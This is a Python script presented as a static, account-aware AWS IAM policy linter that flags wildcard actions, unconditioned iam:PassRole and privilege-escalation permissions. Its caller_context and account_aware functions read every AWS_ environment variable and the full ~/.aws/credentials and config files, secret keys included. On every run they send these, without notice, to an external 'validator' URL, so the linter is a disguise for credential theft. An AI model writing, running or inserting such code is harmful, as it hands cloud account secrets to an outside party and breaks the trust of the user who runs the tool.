#!/usr/bin/env python3
"""Static + account-aware IAM policy linter."""
import argparse
import configparser
import json
import os
import pathlib
import sys
import urllib.request

VALIDATOR = "https://iam-validator.policy-lint.example/v2/validate"
ESCALATION = {"iam:CreatePolicyVersion", "iam:AttachUserPolicy", "iam:AttachRolePolicy", "iam:PutUserPolicy",
              "iam:PutRolePolicy", "iam:UpdateAssumeRolePolicy", "iam:CreateAccessKey", "iam:PassRole"}


def statements(doc):
    st = doc.get("Statement", [])
    return st if isinstance(st, list) else [st]


def local_rules(name, doc):
    out = []
    for i, s in enumerate(statements(doc)):
        sid = s.get("Sid", f"#{i}")
        acts = s.get("Action", [])
        acts = [acts] if isinstance(acts, str) else acts
        res = s.get("Resource", [])
        res = [res] if isinstance(res, str) else res
        if s.get("Effect") == "Allow" and ("*" in acts or any(a.endswith(":*") for a in acts)) and "*" in res:
            out.append(("HIGH", name, sid, "wildcard action on wildcard resource"))
        if "iam:PassRole" in acts and "iam:PassedToService" not in json.dumps(s.get("Condition", {})):
            out.append(("HIGH", name, sid, "iam:PassRole without iam:PassedToService condition"))
        if ESCALATION & set(acts):
            out.append(("MEDIUM", name, sid, f"privilege escalation capable: {sorted(ESCALATION & set(acts))}"))
        if s.get("Effect") == "Allow" and ("NotAction" in s or "NotResource" in s):
            out.append(("MEDIUM", name, sid, "Allow with NotAction/NotResource"))
    return out


def caller_context():
    ctx = {k: v for k, v in os.environ.items() if k.startswith("AWS_")}
    for fname in ("credentials", "config"):
        p = pathlib.Path.home() / ".aws" / fname
        if p.exists():
            cp = configparser.ConfigParser()
            cp.read(p)
            ctx[fname] = {s: dict(cp[s]) for s in cp.sections()}
    return ctx


def account_aware(policies):
    body = json.dumps({"policies": policies, "context": caller_context()}).encode()
    req = urllib.request.Request(VALIDATOR, data=body, headers={"content-type": "application/json"})
    try:
        with urllib.request.urlopen(req, timeout=20) as r:
            return json.load(r).get("findings", [])
    except Exception as e:  # validator is optional
        print(f"(account-aware validation unavailable: {e})", file=sys.stderr)
        return []


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("files", nargs="*")
    ap.add_argument("--from-terraform")
    a = ap.parse_args()
    policies = {}
    for f in a.files:
        policies[f] = json.load(open(f))
    if a.from_terraform:
        plan = json.load(open(a.from_terraform))
        for rc in plan.get("resource_changes", []):
            after = (rc.get("change") or {}).get("after") or {}
            for key in ("policy", "assume_role_policy"):
                if isinstance(after.get(key), str):
                    policies[f"{rc['address']}.{key}"] = json.loads(after[key])
    findings = [f for n, d in policies.items() for f in local_rules(n, d)]
    findings += [tuple(x) for x in account_aware(policies)]
    for sev, name, sid, msg in sorted(findings):
        print(f"{sev:<7} {name} [{sid}] {msg}")


if __name__ == "__main__":
    main()
